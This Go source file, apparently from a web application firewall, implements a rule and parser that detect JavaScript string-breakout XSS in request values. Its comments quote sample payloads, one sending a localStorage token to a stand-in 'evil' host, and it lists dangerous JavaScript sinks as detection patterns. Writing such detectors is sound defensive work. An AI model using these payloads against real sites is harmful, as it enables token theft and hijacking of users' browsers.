package waf

import "strings"

// jsStringRules is rule 210203: a JavaScript string closed and a sink
// called (jsStringBreakout). A page that writes a value into a script's
// string without escaping it for JavaScript (var s = '<value>') runs
// what follows the value's quote: '-location.assign(atob`...`)-' sends
// the page to a javascript: URL, ');navigator.sendBeacon('//evil',
// localStorage.token);// sends the token out. The CRS's XSS rules read
// markup, event handlers and a few sinks (document.cookie, location=),
// and these passed them and the gateway in the query, JSON and cookies
// (a fresh-eyes attack, attack 75).
var jsStringRules = `SecRule ` + valueTargets + ` "@` + jsStringBreakoutOp + `" "id:210203,phase:2,block,t:none,t:urlDecodeUni,t:jsDecode,multiMatch,msg:'XSS: a JavaScript string closed and a sink called',tag:'application-multi',tag:'attack-xss',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

// jsStringBreakoutOp is rule 210203's operator (jsStringBreakout).
const jsStringBreakoutOp = "gatewayJSStringBreakout"

func init() { registerGoOperator(jsStringBreakoutOp, jsStringBreakout) }

// jsSinks are the names jsStringBreakout looks for after a closed
// string: what navigates, sends, stores, runs code or shows a probe, and
// the ways to reach Function and eval (constructor, Reflect, a callback:
// [name].find(eval)). A sink counts where it is called, subscripted,
// assigned, passed or read through a member (fetch(...), eval),
// location.assign, localStorage.token, [].at.constructor(name)).
var jsSinks = []string{"location", "navigator", "localStorage", "sessionStorage", "fetch", "eval", "Function", "setTimeout",
	"setInterval", "setImmediate", "import", "execScript", "document", "XMLHttpRequest", "WebSocket", "EventSource", "atob", "alert",
	"prompt", "confirm", "postMessage", "Image", "constructor", "open", "Reflect", "Worker", "SharedWorker", "queueMicrotask",
	"getScript", "globalEval", "sendBeacon", "cookie", "innerHTML", "outerHTML", "insertAdjacentHTML", "srcdoc", "writeln", "write",
	// since attack 77: what parses HTML from a string (jQuery(name),
	// angular.element(name), Zepto), and the global object indexed
	// (globalThis[name](...))
	"jQuery", "Zepto", "element", "parseHTML", "Audio", "globalThis", "window", "self", "top", "parent", "frames",
	// since attack 78: what compiles a template from a string and runs
	// it (Vue.compile(name), _.template(name)(), Handlebars.compile)
	"compile", "template"}

// jsWindow is how far jsSkip looks for a comment's end.
const jsWindow = 256

// jsStringBreakout is rule 210203's operator: a quote (' " `), closing
// brackets, an operator that goes on with an expression (- + * / % , ;
// & | ^ ? : ! ~ = < >, in, instanceof, typeof, void, new, await), then
// within jsWindow bytes and before the next quote of the same kind a sink
// (jsSinks); and the value must end the way a breakout must for the
// page's script to run (jsEnds): the rest, read as JavaScript, in a //
// or /* comment or leaving a string of the same quote open for the page's
// own quote ('-location.assign(name)-', ');fetch(x);//). JavaScript code
// quoted in a post (const url = '/api/items'; fetch(url).then(...)) and
// prose (Attached: "Q3 budget", document.pdf) end otherwise (a review:
// ten false positives of the first version). Each quote is read on over
// jsWindow bytes at most; the rest of the value is read once for all
// (jsTail).
func jsStringBreakout(v string) bool {
	var t *jsTail
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c != '\'' && c != '"' && c != '`' {
			continue
		}
		if k := jsSinkAfterQuote(v, i+1, c); k >= 0 {
			if t == nil {
				t = &jsTail{v: v}
			}
			if t.ends(k, c) {
				return true
			}
		}
	}
	return false
}

// jsSkip is the index after JavaScript's white space (U+00A0, U+2028,
// U+2029, U+FEFF too) and /* */ comments at v[j:].
func jsSkip(v string, j int) int {
	for j < len(v) {
		switch {
		case v[j] == ' ' || v[j] >= '\t' && v[j] <= '\r':
			j++
		case strings.HasPrefix(v[j:], "\u00a0"):
			j += 2
		case strings.HasPrefix(v[j:], "\u2028"), strings.HasPrefix(v[j:], "\u2029"), strings.HasPrefix(v[j:], "\ufeff"):
			j += 3
		case strings.HasPrefix(v[j:], "/*"):
			e := strings.Index(v[j+2:min(len(v), j+2+jsWindow)], "*/")
			if e < 0 {
				return j
			}
			j += 2 + e + 2
		default:
			return j
		}
	}
	return j
}

// jsSinkAfterQuote reads jsStringBreakout's shape at v[j:], after a
// quote: the index of the sink found, or -1.
func jsSinkAfterQuote(v string, j int, quote byte) int {
	j = jsSkip(v, j)
	for n := 0; j < len(v) && n < 8 && strings.IndexByte(")]}", v[j]) >= 0; n++ {
		j = jsSkip(v, j+1)
	}
	ops := 0
	for n := 0; j < len(v) && n < 4; n++ {
		if strings.IndexByte("-+*/%,;&|^?:!~=<>", v[j]) >= 0 && !strings.HasPrefix(v[j:], "//") {
			j = jsSkip(v, j+1)
			ops++
			continue
		}
		if e, ok := wordAt(v, j, "in", "instanceof", "typeof", "void", "new", "await", "delete"); ok {
			j = jsSkip(v, e)
			ops++
			continue
		}
		break
	}
	if ops == 0 {
		return -1
	}
	// to the next quote of the same kind: each byte is read from at
	// most one quote of each kind (a sink after 256 bytes of padding
	// passed a window: a review)
	end := len(v)
	if q := strings.IndexByte(v[j:], quote); q >= 0 {
		end = j + q
	}
	for k := j; k < end; k++ {
		if !identByte(v[k], "$") || k > 0 && identByte(v[k-1], "$") {
			continue
		}
		e, ok := wordAt(v, k, jsSinks...)
		if !ok {
			continue
		}
		n := jsSkip(v, e)
		if n < len(v) && strings.IndexByte("(),.[]=`?", v[n]) >= 0 {
			return k
		}
	}
	return -1
}

// jsTail reads the rest of a value as JavaScript from a sink on (ends),
// keeping what it found for each place it read.
type jsTail struct {
	v     string
	ends0 []int8 // per place: 1 closed, 2 a comment, 3 ' open, 4 " open, 5 ` open
	seen  []int
	read  int // bytes read in all, bounded (tailBound)
}

// ends: v[k:] read as JavaScript (strings with their escapes, // and
// /* comments, <!-- as a comment) is in a comment or leaves a string in
// quote open (not an apostrophe between two letters: it's).
func (t *jsTail) ends(k int, quote byte) bool {
	v := t.v
	if t.ends0 == nil {
		t.ends0 = make([]int8, len(v)+1)
	}
	seen := t.seen[:0]
	var end int8
	p := k
	for end == 0 {
		if p >= len(v) {
			end = 1
			break
		}
		if t.ends0[p] != 0 {
			end = t.ends0[p]
			break
		}
		if t.read++; t.read > tailBound(len(v)) {
			end = 2 // readings that never meet: an attacker's
			break
		}
		seen = append(seen, p)
		switch c := v[p]; {
		case strings.HasPrefix(v[p:], "//"), strings.HasPrefix(v[p:], "<!--"), strings.HasPrefix(v[p:], "-->") && jsLineStart(v, p):
			end = 2
		case c == '/' && jsRegexStart(v, p):
			// a regular expression's literal: its quotes are no
			// string's ('-alert(1)-/'/-': a review)
			e := jsRegexEnd(v, p)
			t.read += e - p
			p = e
		case strings.HasPrefix(v[p:], "/*"):
			if e := strings.Index(v[p+2:], "*/"); e >= 0 {
				p += 2 + e + 2
			} else {
				end = 2
			}
		case (c == '\'' || c == '"') && jsAfterName(v, p):
			p++ // no string opens right after a name: teachers' guide, it's
		case c == '\'' || c == '"' || c == '`':
			q := p + 1
			for q < len(v) && v[q] != c {
				if v[q] == '\\' {
					q++
				}
				q++
			}
			t.read += q - p
			switch {
			case q < len(v):
				p = q + 1
			default:
				end = 3 + int8(strings.IndexByte("'\"`", c))
			}
		default:
			p++
		}
	}
	for _, a := range seen {
		t.ends0[a] = end
	}
	t.seen = seen
	switch end {
	case 2:
		return true
	case 3:
		return quote == '\''
	case 4:
		return quote == '"'
	case 5:
		return quote == '`'
	}
	return false
}

// jsKeywordsBeforeString are the words after which JavaScript reads a
// string (typeof'x', in'x', return'x'); after any other name a quote
// opens none (the script would not parse).
var jsKeywordsBeforeString = []string{"typeof", "void", "in", "instanceof", "return", "case", "delete", "new", "yield", "await",
	"else", "do", "throw", "of", "import", "from", "export"}

// jsAfterName: the quote at v[p] stands right after a name that is not
// one of jsKeywordsBeforeString.
func jsAfterName(v string, p int) bool {
	if p == 0 || !identByte(v[p-1], "$") {
		return false
	}
	w := p
	for w > 0 && identByte(v[w-1], "$") {
		w--
	}
	for _, k := range jsKeywordsBeforeString {
		if v[w:p] == k {
			return false
		}
	}
	return true
}

// jsLineStart: only blanks stand between the line's start and v[p].
func jsLineStart(v string, p int) bool {
	for p > 0 && (v[p-1] == ' ' || v[p-1] == '\t') {
		p--
	}
	return p == 0 || v[p-1] == '\n' || v[p-1] == '\r'
}

// jsRegexStart: the / at v[p] starts a regular expression's literal: what
// stands before it (over blanks) is no operand (a name, a number or a
// closing bracket), and it starts no comment.
func jsRegexStart(v string, p int) bool {
	if p+1 < len(v) && (v[p+1] == '/' || v[p+1] == '*') {
		return false
	}
	b := p
	for b > 0 && (v[b-1] == ' ' || v[b-1] == '\t') {
		b--
	}
	return b == 0 || !identByte(v[b-1], "$") && v[b-1] != ')' && v[b-1] != ']'
}

// jsRegexEnd is the index after the regular expression's literal at v[p]
// (its closing /, with escapes and [...] classes read), or the line's
// end.
func jsRegexEnd(v string, p int) int {
	class := false
	for q := p + 1; q < len(v); q++ {
		switch v[q] {
		case '\\':
			q++
		case '[':
			class = true
		case ']':
			class = false
		case '/':
			if !class {
				return q + 1
			}
		case '\n', '\r':
			return q
		}
	}
	return len(v)
}
